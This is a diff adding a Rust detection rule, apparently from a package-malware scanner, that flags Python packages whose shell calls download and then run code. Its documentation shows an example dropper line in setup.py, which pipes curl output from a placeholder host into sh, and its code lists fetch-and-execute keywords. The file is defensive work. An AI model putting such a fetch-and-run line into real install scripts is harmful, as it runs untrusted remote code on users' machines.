@@ -1,0 +1,60 @@
+//! ## What it detects
+//!
+//! A shell or PowerShell command that fetches something and runs it (`curl ... | sh`, `iwr ... -OutFile`, `DownloadFile`).
+//!
+//! ## Why it is bad
+//!
+//! It is a dropper written in another language than the package.
+//!
+//! ## Innocent lookalikes
+//!
+//! Documentation and CI scripts say such things; calls in code do not.
+//!
+//! ## Bad
+//!
+//! ```python setup.py
+//! import os
+//! os.system('curl -s http://x.example.invalid/a | sh')
+//! ```
+//!
+//! ## Good
+//!
+//! ```python setup.py
+//! import os
+//! os.system('curl --version')
+//! ```
+
+use fondaco_python::{Api, Language};
+use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};
+
+use crate::{Hits, Package, Rule};
+
+pub(crate) const RULE: Rule = Rule {
+    id: RuleId::new("command-download"),
+    title: "a command downloads and runs",
+    severity: Severity::High,
+    confidence: Confidence::High,
+    behaviour: Some(Behaviour::IngressTransfer),
+    weight: 2.0,
+    check,
+};
+
+fn check(package: &Package<'_>, hits: &mut Hits) {
+    for (unit, call) in package.calls().filter(|(_, call)| call.api == Some(Api::Shell)) {
+        if call.texts().iter().any(|text| fetches_and_runs(text)) {
+            hits.call(unit, call, "a command that fetches something and runs it");
+        }
+    }
+    for unit in package.units().filter(|unit| unit.layer > 0 && unit.language != Language::Python) {
+        if fetches_and_runs(&unit.text) {
+            hits.line(unit, 1, "a hidden command that fetches something and runs it");
+        }
+    }
+}
+
+fn fetches_and_runs(text: &str) -> bool {
+    let text = text.to_ascii_lowercase();
+    let fetches = ["curl ", "wget ", "invoke-webrequest", "iwr ", "downloadfile", "downloadstring", "bitsadmin", "certutil -urlcache"];
+    let runs = ["| sh", "|sh", "| bash", "|bash", "| python", "|python", "start-process", "iex", "invoke-expression", "chmod +x", "&& ./", "start ", ".exe"];
+    text.len() < 20_000 && fetches.iter().any(|f| text.contains(f)) && runs.iter().any(|r| text.contains(r))
+}
